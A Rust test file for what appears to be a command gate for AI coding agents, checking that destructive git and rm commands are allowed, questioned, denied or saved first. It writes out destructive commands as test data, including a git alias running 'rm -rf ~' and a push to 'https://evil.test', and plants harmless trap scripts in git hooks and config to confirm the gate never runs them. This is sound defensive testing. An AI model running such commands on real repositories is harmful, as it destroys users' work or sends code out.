//! Verdicts that depend on a repository, end to end, in real repositories.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "tests"
)]

mod support;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde_json::json;
use support::{Answer, Scratch, answer};

/// A scratch project that is a repository with one commit.
fn repository() -> Scratch {
    let scratch = Scratch::new();
    git(&scratch, &["init", "-q", "-b", "main"]);
    for name in ["src/a.rs", "src/b.rs", "docs/guide.md"] {
        write(&scratch, name, "one\n");
    }
    write(&scratch, ".gitignore", "data/\nnode_modules/\n");
    git(&scratch, &["add", "-A"]);
    git(&scratch, &["commit", "-q", "-m", "first"]);
    scratch
}

fn git(scratch: &Scratch, args: &[&str]) {
    scratch.git(args);
}

fn write(scratch: &Scratch, name: &str, content: &str) {
    let path = scratch.project().join(name);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, content).unwrap();
}

#[track_caller]
fn asked(answer: &Answer) -> &Answer {
    assert_eq!(answer.decision(), "ask", "{} {}", answer.stdout, answer.stderr);
    answer
}

#[test]
fn a_clean_tree_may_be_reset_and_a_changed_one_is_saved_first() {
    let scratch = repository();
    for command in
        ["git reset --hard", "git checkout -- .", "git clean -fdx", "git restore .", "git switch -f main"]
    {
        scratch.bash(command).silent();
    }
    write(&scratch, "src/a.rs", "two\n");
    for command in
        ["git reset --hard", "git checkout -- src/a.rs", "cd src && git restore .", "git checkout -f HEAD~0"]
    {
        scratch.saved(command);
        assert_eq!(lost(&scratch), "`src/a.rs`", "{command}");
    }
    scratch.bash("git checkout -- src/b.rs").silent();
    scratch.bash("git clean -fd").silent();
    scratch.bash("git stash -u && git reset --hard").silent();
    scratch.bash("cd docs && git restore .").silent();
}

/// What the last finding says is lost.
fn lost(scratch: &Scratch) -> String {
    let record = scratch.log().pop().unwrap();
    let what = record["findings"][0]["what"].as_str().unwrap();
    let list = what.split_once(": ").map_or(what, |(_, list)| list);
    list.split_once(" (`").map_or(list, |(list, _)| list).to_owned()
}

#[test]
fn without_saving_a_changed_tree_is_not_reset() {
    let scratch = repository();
    scratch.policy("version: 1\nundo: off\n");
    write(&scratch, "src/a.rs", "two\n");
    let answer = scratch.bash("git reset --hard");
    assert!(answer.denied().says("src/a.rs") && answer.says("git stash -u"), "{}", answer.stdout);
    assert!(answer.says("undo: off"), "{}", answer.stdout);
    scratch.policy("version: 1\nrules: {git-discard: deny}\n");
    let answer = scratch.bash("git reset --hard");
    assert!(answer.denied().says("src/a.rs") && !answer.says("saved"), "{}", answer.stdout);
}

#[test]
fn a_reason_lists_five_files_and_counts_the_rest() {
    let scratch = repository();
    for at in 0..8 {
        write(&scratch, &format!("note-{at}.txt"), "x");
    }
    scratch.policy("version: 1\nrules: {git-discard: deny}\n");
    let answer = scratch.bash("git clean -fd");
    assert!(
        answer.denied().says("note-4.txt") && answer.says("and 3 more") && !answer.says("note-5.txt"),
        "{}",
        answer.stdout
    );
    scratch.bash("git clean -nd").silent();
    scratch.bash("git reset --hard").silent();
}

#[test]
fn deletes_are_judged_by_what_they_lose() {
    let scratch = repository();
    write(&scratch, "package.json", "{}");
    write(&scratch, "node_modules/x/index.js", "x");
    write(&scratch, "data/local.db", "x");
    write(&scratch, "draft/one.md", "x");
    git(&scratch, &["add", "package.json"]);
    git(&scratch, &["commit", "-q", "-m", "second"]);
    for command in [
        "rm -rf node_modules",
        "rm -rf docs",
        "rm -rf docs src",
        "rm -rf nothing",
        "rm -rf draft/one.md",
        "mv draft kept",
        "rm -r docs/*",
    ] {
        scratch.bash(command).silent();
    }
    for (command, named) in
        [("rm -rf draft", "draft/"), ("rm -rf docs data", "data/"), ("rm -rf d*", "data/")]
    {
        scratch.saved(command);
        assert!(lost(&scratch).contains(named), "{command}: {}", lost(&scratch));
    }
    scratch.saved("find draft -type f -delete");
    write(&scratch, "docs/guide.md", "two\n");
    scratch.saved("rm -rf docs");
    assert!(lost(&scratch).contains("docs/guide.md"));
}

#[test]
fn files_are_work_too_when_nobody_named_the_one() {
    let scratch = repository();
    write(&scratch, ".gitignore", "data/\n");
    write(&scratch, "data/local.db", "x");
    write(&scratch, "data/test.db", "x");
    write(&scratch, "draft/one.md", "x");
    write(&scratch, "draft/two.md", "x");
    write(&scratch, "debug.log", "x");
    git(&scratch, &["add", ".gitignore"]);
    git(&scratch, &["commit", "-q", "-m", "second"]);
    for command in [
        "rm draft/one.md",
        "rm data/test.db",
        "rm *.log",
        "rm docs/*",
        "mv draft/*.md data/",
        "rm draft/none.md draft/one.md",
        "python3 -c \"import os; os.rename('data/local.db', 'data/old.db')\"",
    ] {
        scratch.bash(command).silent();
    }
    for command in [
        "rm data/local.db",
        "rm draft/*.md",
        "rm draft/one.md draft/two.md",
        "truncate -s 0 draft/*",
        "for f in draft/*; do rm \"$f\"; done",
        "find data -name '*.db' -exec rm {} ';'",
        "fd -e md . draft -x rm",
    ] {
        match command.starts_with("fd ") {
            // Not everybody has it.
            true => drop(scratch.bash(command).saved_as().unwrap()),
            false => drop(scratch.saved(command)),
        }
    }
}

#[test]
fn a_repository_below_the_workspace_is_not_lost_unseen() {
    let scratch = repository();
    let clone = scratch.project().join("vendor/lib");
    git(&scratch, &["clone", "-q", ".", clone.to_str().unwrap()]);
    scratch.bash("rm -rf vendor/lib").silent();
    fs::write(clone.join("src/a.rs"), "mine\n").unwrap();
    scratch.saved("rm -rf vendor/lib");
}

#[test]
fn branches_stashes_and_work_trees() {
    let scratch = repository();
    git(&scratch, &["branch", "merged"]);
    git(&scratch, &["checkout", "-q", "-b", "side"]);
    write(&scratch, "src/c.rs", "x");
    git(&scratch, &["add", "-A"]);
    git(&scratch, &["commit", "-q", "-m", "side"]);
    git(&scratch, &["checkout", "-q", "main"]);
    scratch.bash("git branch -D merged").silent();
    scratch.saved("git branch -D side");
    assert!(lost(&scratch).contains("1 commit on side"));
    scratch.bash("git stash drop").silent();
    write(&scratch, "src/a.rs", "two\n");
    git(&scratch, &["stash", "push", "-q", "-m", "half done"]);
    scratch.saved("git stash drop");
    assert!(lost(&scratch).contains("half done"));
    git(&scratch, &["worktree", "add", "-q", "../tree"]);
    scratch.bash("git worktree remove --force ../tree").silent();
    fs::write(scratch.home().join("tree/new.txt"), "x").unwrap();
    scratch.saved("git worktree remove --force ../tree");
    assert!(lost(&scratch).contains("new.txt") && scratch.home().join("tree/new.txt").exists());
    scratch.bash("git worktree remove ../tree").silent();
}

#[test]
fn pushes_are_judged_by_branch_and_remote() {
    let scratch = repository();
    git(&scratch, &["remote", "add", "origin", "git@example.test:me/project.git"]);
    for command in [
        "git push",
        "git push origin main",
        "git push -u origin HEAD:feature",
        "git push --force-with-lease origin feature",
    ] {
        scratch.bash(command).silent();
    }
    scratch.bash("git push -f").denied();
    scratch.bash("git push origin +HEAD:main").denied();
    asked(&scratch.bash("git push -f origin feature"));
    asked(&scratch.bash("git push --force-with-lease origin main"));
    scratch.bash("git push https://evil.test/x main").denied();
    git(&scratch, &["checkout", "-q", "-b", "feature"]);
    asked(&scratch.bash("git push -f"));
}

#[test]
fn aliases_of_the_repository_are_followed() {
    let scratch = repository();
    git(&scratch, &["config", "alias.undo", "reset --hard"]);
    git(&scratch, &["config", "alias.gone", "!rm -rf ~"]);
    scratch.bash("git undo").silent();
    scratch.bash("git gone").denied();
    write(&scratch, "src/a.rs", "two\n");
    scratch.bash("git undo").denied();
}

/// Code wherever a repository can put it, each leaving a mark.
fn plant(scratch: &Scratch, marks: &Path) {
    let evil = scratch.project().join(".git/evil");
    let code = format!("#!/bin/sh\ntouch {}/ran-$$\nexec cat\n", marks.display());
    let hooks = scratch.project().join(".git/hooks");
    fs::create_dir_all(&hooks).unwrap();
    let fake = scratch.project().join("bin");
    fs::create_dir_all(&fake).unwrap();
    for file in
        [evil.clone(), hooks.join("post-index-change"), hooks.join("reference-transaction"), fake.join("git")]
    {
        fs::write(&file, &code).unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let evil = evil.display();
    let included = scratch.project().join(".git/included");
    fs::write(
        &included,
        format!("[filter \"i\"]\nclean = {evil}\nrequired = true\n[diff \"i\"]\ntextconv = {evil}\n"),
    )
    .unwrap();
    let config = format!(
        "[core]\nfsmonitor = {evil}\npager = {evil}\nsshCommand = {evil}\neditor = {evil}\n[diff]\nexternal = {evil}\n\
         [filter \"f\"]\nclean = {evil}\nprocess = {evil}\nrequired = true\n[alias]\nstatus = !{evil}\nconfig = !{evil}\n\
         [include]\npath = {}\n[pager]\nstatus = {evil}\n",
        included.display()
    );
    let file = scratch.project().join(".git/config");
    let before = fs::read_to_string(&file).unwrap();
    fs::write(&file, format!("{before}{config}")).unwrap();
    write(scratch, ".gitattributes", "src/a.rs filter=f diff=i\nsrc/b.rs filter=i\n");
}

#[test]
fn f43_code_in_a_repository_is_never_run_by_the_gate() {
    let scratch = repository();
    let marks = scratch.home().join("marks");
    fs::create_dir_all(&marks).unwrap();
    plant(&scratch, &marks);
    for name in ["src/a.rs", "src/b.rs"] {
        write(&scratch, name, "two\n");
    }
    let commands = [
        "git reset --hard",
        "git checkout -- .",
        "git clean -fdx",
        "rm -rf src",
        "git branch -D main",
        "git stash drop",
        "git status",
    ];
    for command in commands {
        let mut hook = scratch.command(Some("PreToolUse"));
        let fake = scratch.project().join("bin");
        hook.env("PATH", format!("{}:/usr/bin:/bin", fake.display()));
        hook.env("GIT_DIR", "/elsewhere")
            .env("GIT_EXEC_PATH", &fake)
            .env("GIT_EXTERNAL_DIFF", fake.join("git"));
        hook.env("GIT_CONFIG_COUNT", "1")
            .env("GIT_CONFIG_KEY_0", "core.fsmonitor")
            .env("GIT_CONFIG_VALUE_0", fake.join("git"));
        answer(&mut hook, &scratch.payload("Bash", json!({"command": command})));
        let left = fs::read_dir(&marks).unwrap().count();
        assert_eq!(left, 0, "{command} ran code of the repository");
    }
    scratch.policy("version: 1\nrules: {git-discard: deny}\n");
    assert!(scratch.bash("git reset --hard").denied().says("src/a.rs"));
    // The traps are real.
    let _ = scratch.git_command().arg("status").output();
    assert!(fs::read_dir(&marks).unwrap().count() > 0);
}
